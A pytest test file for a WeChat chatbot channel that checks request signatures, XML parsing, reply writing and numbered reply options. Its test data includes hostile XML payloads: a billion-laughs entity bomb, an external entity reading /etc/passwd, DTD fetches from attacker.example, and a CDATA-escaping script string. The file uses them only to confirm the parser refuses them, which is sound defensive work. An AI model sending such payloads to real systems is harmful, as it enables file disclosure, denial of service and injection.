"""The WeChat protocol helpers on their own: signatures, reading XML (hostile XML
included), writing the passive reply, buttons as numbered options, the expiring memory."""

from __future__ import annotations

import hashlib
from xml.etree import ElementTree

import pytest

from bot.channels.replies import channel_reply
from bot.channels.ttl_memory import TtlMemory
from bot.channels.wechat_options import OptionMemory, render_turn
from bot.channels.wechat_xml import (
    MAX_BODY_BYTES,
    MalformedMessage,
    WeChatMessage,
    cdata,
    parse_message,
    signature_is_valid,
    text_reply,
)

TOKEN = "bureau-token"


def wechat_signature(token: str, timestamp: str, nonce: str) -> str:
    # Written out again from WeChat's documentation rather than calling the code under test.
    return hashlib.sha1("".join(sorted([token, timestamp, nonce])).encode()).hexdigest()


def text_message(content: str, msg_id: str = "1001") -> bytes:
    return (
        "<xml><ToUserName><![CDATA[gh_bureau]]></ToUserName>"
        "<FromUserName><![CDATA[oPerson123]]></FromUserName>"
        "<CreateTime>1767225600</CreateTime><MsgType><![CDATA[text]]></MsgType>"
        f"<Content><![CDATA[{content}]]></Content><MsgId>{msg_id}</MsgId></xml>"
    ).encode()


# --- signatures


def test_the_signature_of_sorted_token_timestamp_and_nonce_is_accepted():
    signature = wechat_signature(TOKEN, "1767225600", "93847")
    assert signature_is_valid(TOKEN, signature, "1767225600", "93847")
    assert signature_is_valid(TOKEN, signature.upper(), "1767225600", "93847")


@pytest.mark.parametrize(
    "signature, timestamp, nonce",
    [
        (wechat_signature("other-token", "1767225600", "93847"), "1767225600", "93847"),
        (wechat_signature(TOKEN, "1767225600", "93847"), "1767225601", "93847"),
        (None, "1767225600", "93847"),
        ("", "1767225600", "93847"),
        (wechat_signature(TOKEN, "1767225600", "93847"), None, "93847"),
        (wechat_signature(TOKEN, "1767225600", "93847"), "1767225600", None),
        ("签名不是十六进制", "1767225600", "93847"),  # non-ASCII must not raise
    ],
)
def test_a_wrong_or_missing_part_fails_the_signature(signature, timestamp, nonce):
    assert not signature_is_valid(TOKEN, signature, timestamp, nonce)


def test_no_token_accepts_nothing():
    assert not signature_is_valid("", wechat_signature("", "1", "2"), "1", "2")


# --- reading messages


def test_a_text_message_is_read():
    message = parse_message(text_message("  how do I collect my child's card?"))
    assert message == WeChatMessage(
        to_user="gh_bureau",
        from_user="oPerson123",
        create_time="1767225600",
        msg_type="text",
        content="  how do I collect my child's card?",
        msg_id="1001",
    )


def test_an_event_is_read_and_retries_share_a_key():
    body = (
        b"<xml><ToUserName>gh_bureau</ToUserName><FromUserName>oNew</FromUserName>"
        b"<CreateTime>1767225600</CreateTime><MsgType>event</MsgType>"
        b"<Event>subscribe</Event></xml>"
    )
    message = parse_message(body)
    assert (message.msg_type, message.event, message.msg_id) == ("event", "subscribe", None)
    assert message.turn_key == parse_message(body).turn_key


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><MsgType>text</MsgType>
<Content>&lol4;</Content></xml>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><MsgType>text</MsgType>
<Content>&secret;</Content></xml>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><MsgType>text</MsgType></xml>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><MsgType>text</MsgType></xml>"""
HOSTILE_OR_MALFORMED = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": EXTERNAL_ENTITY,
    "external DTD": EXTERNAL_DTD,
    "parameter entity": PARAMETER_ENTITY,
    "internal DTD only": b"<!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><ToUserName>a</ToUserName>"
    b"<FromUserName>b</FromUserName><MsgType>text</MsgType></xml>",
    "unclosed": b"<xml><ToUserName>a</ToUserName><FromUserName>b",
    "not XML": b'{"sender": "a", "message": "hi"}',
    "empty": b"",
    "unknown encoding": b'<?xml version="1.0" encoding="x-unknown"?><xml/>',
    "bad UTF-8": b"<xml><Content>\xff\xfe\xfd</Content></xml>",
    "wrong root": b"<message><ToUserName>a</ToUserName><FromUserName>b</FromUserName>"
    b"<MsgType>text</MsgType></message>",
    "missing FromUserName": b"<xml><ToUserName>a</ToUserName><MsgType>text</MsgType></xml>",
    "too large": b"<xml><Content>" + b"a" * MAX_BODY_BYTES + b"</Content></xml>",
}


@pytest.mark.parametrize("body", HOSTILE_OR_MALFORMED.values(), ids=HOSTILE_OR_MALFORMED.keys())
def test_hostile_or_malformed_xml_is_refused(body):
    with pytest.raises(MalformedMessage):
        parse_message(body)


# --- writing the reply


def test_the_passive_reply_goes_from_the_account_to_the_person():
    message = parse_message(text_message("hello"))
    reply = ElementTree.fromstring(text_reply(message, "Hello & welcome <3", 1767225601))
    assert [child.tag for child in reply] == [
        "ToUserName", "FromUserName", "CreateTime", "MsgType", "Content",
    ]  # fmt: skip
    assert reply.findtext("ToUserName") == "oPerson123"
    assert reply.findtext("FromUserName") == "gh_bureau"
    assert reply.findtext("CreateTime") == "1767225601"
    assert reply.findtext("MsgType") == "text"
    assert reply.findtext("Content") == "Hello & welcome <3"


@pytest.mark.parametrize(
    "content",
    ["a]]>b", "]]>", "]]]]>", "x]]><script>alert(1)</script><![CDATA[y", "end]]"],
)
def test_cdata_end_markers_in_content_survive_the_round_trip(content):
    parsed = ElementTree.fromstring(f"<Content>{cdata(content)}</Content>")
    assert parsed.text == content
    assert len(parsed) == 0  # nothing escaped into markup


def test_characters_xml_forbids_are_dropped_from_the_reply():
    wrapped = "<c>" + cdata("a\x00b\x1bc") + "</c>"
    assert ElementTree.fromstring(wrapped).text == "abc"


# --- buttons as numbered options


COLLECTED = [
    {"recipient_id": "oPerson123", "text": "Here is how to collect the card."},
    {
        "recipient_id": "oPerson123",
        "text": "Anything else?",
        "buttons": [
            {"title": "What should I bring?", "payload": "/child_card_documents"},
            {"title": "Check my application", "payload": "/application_status"},
        ],
    },
]


def test_a_turn_becomes_one_text_with_numbered_options():
    text, payloads = render_turn(COLLECTED)
    assert text == (
        "Here is how to collect the card.\n\nAnything else?\n\n"
        f"{channel_reply('wechat_options_intro')}\n"
        "1. What should I bring?\n2. Check my application"
    )
    assert payloads == ["/child_card_documents", "/application_status"]


@pytest.mark.parametrize("typed", ["2", " 2 ", "2.", "２", "2、"])
def test_a_bare_number_picks_the_option_last_shown(typed):
    options = OptionMemory()
    options.remember("oPerson123", ["/child_card_documents", "/application_status"])
    assert options.resolve("oPerson123", typed) == "/application_status"


@pytest.mark.parametrize("typed", ["3", "0", "12", "1 please", "SC2026000101"])
def test_anything_else_is_passed_on_as_typed(typed):
    options = OptionMemory()
    options.remember("oPerson123", ["/child_card_documents", "/application_status"])
    assert options.resolve("oPerson123", typed) == typed


def test_options_belong_to_one_person_and_a_turn_without_options_clears_them():
    options = OptionMemory()
    options.remember("oPerson123", ["/child_card_documents"])
    assert options.resolve("oSomeoneElse", "1") == "1"
    options.remember("oPerson123", [])
    assert options.resolve("oPerson123", "1") == "1"


def test_options_expire():
    now = [1000.0]
    memory: TtlMemory[str, int] = TtlMemory(ttl_seconds=60, clock=lambda: now[0])
    memory.put("a", 1)
    now[0] += 59
    assert memory.get("a") == 1
    now[0] += 1
    assert memory.get("a") is None and len(memory) == 0


def test_the_memory_forgets_the_oldest_beyond_its_size():
    memory: TtlMemory[int, int] = TtlMemory(ttl_seconds=60, max_entries=3)
    for key in range(5):
        memory.put(key, key)
    assert [memory.get(key) for key in range(5)] == [None, None, 2, 3, 4]
